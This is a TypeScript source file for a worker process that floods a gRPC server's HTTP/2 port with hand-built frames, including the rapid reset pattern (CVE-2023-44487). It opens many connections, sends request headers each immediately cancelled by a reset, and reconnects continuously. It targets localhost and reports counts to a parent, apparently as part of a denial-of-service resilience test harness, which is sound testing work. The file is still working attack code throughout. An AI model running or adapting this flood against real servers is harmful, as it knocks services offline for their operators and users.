/** Floods a gRPC port with HTTP/2 frames that it has prepared, so that it takes less CPU time than the server. */
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { attackerNiceness } from '../generator.ts';

export interface Http2FloodPlan {
  readonly port: number;
  /** Null for connections that are closed when the server has answered the preface. */
  readonly path: string | null;
  /** Whether each call is reset at once (CVE-2023-44487). If not, the next call follows an answer. */
  readonly resets: boolean;
  readonly addresses: readonly string[];
}

const [batch, maxOpen, reconnectMs] = [100, 400, 20];
const [headersType, resetType, settingsType, windowUpdateType] = [1, 3, 4, 8];
const [endStream, endHeaders] = [1, 4];

const counts: Record<string, number> = { calls: 0, answers: 0, connections: 0 };
const count = (what: string, more = 1) => {
  counts[what] = (counts[what] ?? 0) + more;
};

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);

/** The header block (RFC 7541) of the first call, which fills the dynamic table. */
const firstBlock = (path: string) =>
  Buffer.concat([
    Buffer.of(0x83, 0x86, 0x41),
    text('localhost'),
    Buffer.of(0x44),
    text(path),
    Buffer.of(0x5f),
    text('application/grpc'),
    Buffer.of(0x40),
    text('te'),
    text('trailers'),
  ]);
const nextBlock = Buffer.of(0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe);

function connectAndFlood(plan: Http2FloodPlan, localAddress: string): void {
  const { path, resets } = plan;
  const socket = connect({ port: plan.port, host: '127.0.0.1', localAddress });
  count('connections');
  let stream = 1;
  let open = 0;
  const calls = () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < batch && (resets || open < maxOpen); i += 1) {
      const block = stream === 1 ? firstBlock(path ?? '') : nextBlock;
      frames.push(frame(headersType, endHeaders | (resets ? 0 : endStream), stream, block));
      if (resets) frames.push(frame(resetType, 0, stream, Buffer.of(0, 0, 0, 8)));
      stream += 2;
      open += 1;
      count('calls');
    }
    return Buffer.concat(frames);
  };
  const send = () => {
    const bytes = calls();
    if (bytes.length > 0) socket.write(bytes, resets ? () => setImmediate(send) : undefined);
  };
  let received = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    received = Buffer.concat([received, chunk]);
    while (received.length >= 9 && received.length >= 9 + received.readUIntBE(0, 3)) {
      const [type, flags] = [received[3], received[4] ?? 0];
      if (type === headersType && (flags & endStream) !== 0) {
        open -= 1;
        count('answers');
      }
      received = received.subarray(9 + received.readUIntBE(0, 3));
    }
    if (!resets && path !== null) send();
  });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(() => connectAndFlood(plan, localAddress), path === null ? 0 : reconnectMs));
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(settingsType, 0, 0, Buffer.alloc(0)));
  socket.write(frame(windowUpdateType, 0, 0, Buffer.of(0x3f, 0xff, 0, 0)));
  if (path === null) socket.once('data', () => socket.destroy());
  else send();
}

process.once('message', (plan: Http2FloodPlan) => {
  setPriority(attackerNiceness);
  for (const address of plan.addresses) connectAndFlood(plan, address);
  process.once('message', () => {
    process.send?.(counts, () => process.exit());
  });
  process.send?.('started');
});
// The parent is gone, so nothing else would stop the flood.
process.once('disconnect', () => process.exit());
